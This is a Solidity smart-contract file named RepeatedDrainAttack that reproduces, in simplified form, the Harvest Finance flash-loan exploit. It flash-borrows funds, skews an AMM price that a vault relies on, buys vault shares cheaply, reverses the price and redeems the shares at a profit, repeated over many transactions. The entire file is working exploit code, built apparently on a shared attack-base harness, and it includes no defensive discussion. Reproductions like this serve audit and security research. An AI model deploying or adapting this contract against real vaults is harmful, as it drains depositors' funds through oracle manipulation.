// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {AttackBase, IVaultLike, IPoolLike, IFlashLenderLike} from "./AttackBase.sol";

/// @notice Harvest Finance (Oct 2020), simplified: with a flash loan, push the AMM price the vault values
/// the thin market at, buy LP shares cheap, push the price back, redeem dear. One loop per transaction,
/// repeated.
contract RepeatedDrainAttack is AttackBase {
    IVaultLike public immutable vault;
    IPoolLike public immutable pool;
    IERC20 public immutable asset;
    IFlashLenderLike public immutable lender;
    uint256 public pumpUsd;

    constructor(IERC20 usd_, IVaultLike vault_, IPoolLike pool_, IERC20 asset_, IFlashLenderLike lender_)
        AttackBase(usd_)
    {
        vault = vault_;
        pool = pool_;
        asset = asset_;
        lender = lender_;
        _approve(address(vault_));
        _approve(address(pool_));
        _approve(address(lender_));
        asset_.approve(address(pool_), type(uint256).max);
    }

    function loop(uint256 loan, uint256 pumpUsd_) external onlyOwner {
        pumpUsd = pumpUsd_;
        lender.flashLoan(loan, "");
    }

    function onFlashLoan(uint256 amount, uint256, bytes calldata) external {
        require(msg.sender == address(lender), "lender only");
        uint256 bought = pool.swap(true, pumpUsd, 0, address(this));
        uint256 shares = vault.deposit(amount - pumpUsd);
        pool.swap(false, bought, 0, address(this));
        vault.redeem(shares);
    }
}
